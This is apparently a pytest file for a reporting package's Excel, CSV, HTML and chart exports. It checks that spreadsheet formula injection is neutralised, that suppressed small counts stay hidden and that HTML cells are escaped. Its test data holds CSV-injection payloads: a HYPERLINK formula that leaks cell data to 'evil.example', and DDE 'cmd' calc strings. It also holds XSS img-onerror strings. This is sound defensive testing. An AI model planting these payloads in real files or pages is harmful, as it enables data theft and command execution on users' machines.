"""Exports: tables as Excel (formulas neutralised as in the CSV, suppression kept), tables as
static HTML, and charts as PNG and SVG drawn by Chromium (hidden values stay hidden)."""

from __future__ import annotations

import csv
import io
import struct
import xml.etree.ElementTree as ET

import pandas as pd
import pytest
from openpyxl import load_workbook

import ptx
from ptx.exports import IMAGE_FORMATS, excel_bytes, figure_image, table_html
from ptx.safety import FORMULA_STARTS, csv_bytes, neutralise_cell
from tests.test_browser import _chromium

# Every start a spreadsheet reads as a formula, the full-width forms among them.
INJECTIONS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
]


def sheet_cells(data: bytes) -> dict[str, list[list[object]]]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert not formulas, (sheet.title, formulas)
    return {s.title: [list(r) for r in s.iter_rows(values_only=True)] for s in book.worksheets}


def test_excel_neutralises_every_formula_start_as_the_csv_does():
    frame = pd.DataFrame({"Department": INJECTIONS, "Change": ["-2.5"] * len(INJECTIONS)}).rename(
        columns={"Change": "=Change"}
    )
    (rows,) = sheet_cells(excel_bytes({"Ranking": frame})).values()
    heading, *body = rows
    assert heading == ["Department", "'=Change"]
    # XML reads a carriage return back as a line feed: compare with that in mind.
    written = [r[0].replace("\r", "\n") for r in body]
    expected = [neutralise_cell(c).replace("\r", "\n") for c in INJECTIONS]
    assert written == expected  # the one neutralising function
    assert all(w.startswith("'") for w in written)
    # The CSV of the same table holds the same cells.
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert [r[0].replace("\r", "\n") for r in rows[1:]] == written


def test_excel_writes_numbers_as_numbers_and_keeps_marks_and_identifiers_as_text():
    frame = pd.DataFrame(
        {
            "n": ["1,235", "*", "", "-12"],
            "%": ["89.1", "–", "-0.5", "100.0"],
            "Complaint": ["007", "010", "011", "012"],  # leading zeros: an identifier
            "Note": ["-", "=x", "ok", "+"],
        }
    )
    (rows,) = sheet_cells(excel_bytes({"t": frame})).values()
    body = rows[1:]
    assert [r[0] for r in body] == [1235, "*", None, -12]
    assert [r[1] for r in body] == [89.1, "–", -0.5, 100.0]
    assert [r[2] for r in body] == ["007", "010", "011", "012"]
    assert [r[3] for r in body] == ["'-", "'=x", "ok", "'+"]


def test_excel_holds_control_characters_and_long_or_repeated_sheet_names():
    frame = pd.DataFrame({"Comment": ["bell\x07 and nul\x00", "\x00=1+1"]})
    name = "Ranking: [every] department/ward?" * 2
    sheets = sheet_cells(excel_bytes({name: frame, name + "2": frame}))
    titles = list(sheets)
    assert len(titles) == 2 and len(set(titles)) == 2
    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles)
    cells = [r[0] for r in sheets[titles[0]][1:]]
    assert cells[0] == "bell\ufffd and nul\ufffd"
    assert cells[1].startswith("'")  # a NUL before a formula: still neutralised


def test_an_empty_workbook_is_refused():
    with pytest.raises(ptx.PtxError, match="at least one table"):
        excel_bytes({})


def test_suppressed_cells_stay_suppressed_in_csv_and_excel(demo_duckdb):
    source = ptx.open_source(demo_duckdb)
    filters = ptx.Filters(start="2026-09-01", end="2026-09-30")
    heat = ptx.department_heatmap(source, filters)
    exported = heat.table(export=True)
    hidden = exported["Value"] == ""
    assert hidden.sum() > 0
    bare = ptx.department_heatmap(source, filters, rule=ptx.Disclosure(enabled=False))
    revealed = bare.table(export=True)["Value"]
    assert (revealed[hidden.to_numpy()] != "").any()  # values the rule hides exist
    (rows,) = sheet_cells(excel_bytes({"Every measure": exported})).values()
    excel = pd.DataFrame(rows[1:], columns=rows[0])
    text = pd.read_csv(io.BytesIO(csv_bytes(exported)), dtype=str, keep_default_na=False)
    for table in (excel, text):
        assert (table["Value"].isna() | (table["Value"] == ""))[hidden.to_numpy()].all()
        small = pd.to_numeric(table["n"], errors="coerce")
        assert not small.between(1, 7).any()  # no count of 1-7 in either file


def test_table_html_escapes_every_cell_and_keeps_every_row():
    frame = pd.DataFrame(
        {"<b>Department</b>": [f"<img src=x onerror=alert({i})>" for i in range(40)]}
    )
    html = table_html(frame, caption="A & B <script>")
    assert "<img" not in html and "<script>" not in html and "<b>" not in html
    assert html.count("<tr>") == 41  # heading and every row
    assert "&lt;img src=x onerror=alert(39)&gt;" in html and "A &amp; B &lt;script&gt;" in html


@pytest.fixture(scope="module")
def chromium():
    return _chromium()  # skips (or fails when required) without Chromium


def svg_texts(svg: bytes) -> list[str]:
    root = ET.fromstring(svg)
    return [t.text or "" for t in root.iter("{http://www.w3.org/2000/svg}text")]


def png_size(png: bytes) -> tuple[int, int]:
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", png[16:24])


def test_charts_export_as_png_and_svg_drawn_by_chromium(chromium, demo_duckdb):
    source = ptx.open_source(demo_duckdb)
    figure = ptx.trend(source, "fft_pct_positive").figure()
    svg = figure_image(figure, "svg")
    assert svg.startswith(b"<svg") and "FFT % positive by month" in svg_texts(svg)
    png = figure_image(figure, "png")
    width, height = png_size(png)
    assert (width, height) == (2 * 1200, 2 * (figure.layout.height or 600))
    assert set(IMAGE_FORMATS) == {"png", "svg"}
    with pytest.raises(ptx.PtxError, match="png or svg"):
        figure_image(figure, "gif")


def test_suppressed_values_stay_hidden_in_image_data_labels(chromium, demo_duckdb):
    """The heatmap writes each cell's value on it: a cell the rule hides shows "*"."""
    source = ptx.open_source(demo_duckdb)
    filters = ptx.Filters(start="2026-09-01", end="2026-09-30")
    heat = ptx.department_heatmap(source, filters)
    bare = ptx.department_heatmap(source, filters, rule=ptx.Disclosure(enabled=False))
    shown = heat.cells[heat.cells["score"].notna()]
    only_hidden_by_rule = heat.cells["score"].isna() & bare.cells["score"].notna()
    assert only_hidden_by_rule.sum() > 0
    for fmt in ("svg", "png"):
        data = figure_image(heat.figure(), fmt)
        if fmt == "png":  # the PNG is drawn from the same figure as the SVG
            assert png_size(data)[1] == 2 * heat.figure().layout.height
            continue
        labels = [t for t in svg_texts(data) if t == "*" or t.replace(".", "").isdigit()]
        assert labels.count("*") == int(heat.cells["score"].isna().sum())
        assert sorted(t for t in labels if t != "*") == sorted(f"{v:.1f}" for v in shown["value"])
    bare_labels = svg_texts(figure_image(bare.figure(), "svg"))
    assert bare_labels.count("*") < int(heat.cells["score"].isna().sum())  # the rule's doing


def test_no_exported_cell_is_a_formula_in_any_result_table(demo_duckdb):
    source = ptx.open_source(demo_duckdb)
    results = {
        "Ranking": ptx.compare_departments(source, "fft_pct_positive"),
        "Backlog": ptx.complaint_backlog(source),
        "Mix": ptx.complaint_mix(source),
    }
    data = excel_bytes({name: r.table(export=True) for name, r in results.items()})
    sheets = sheet_cells(data)
    assert list(sheets) == list(results)
    for name, rows in sheets.items():
        assert len(rows) == len(results[name].table(export=True)) + 1  # every row
        for row in rows:
            for cell in row:
                if isinstance(cell, str):
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
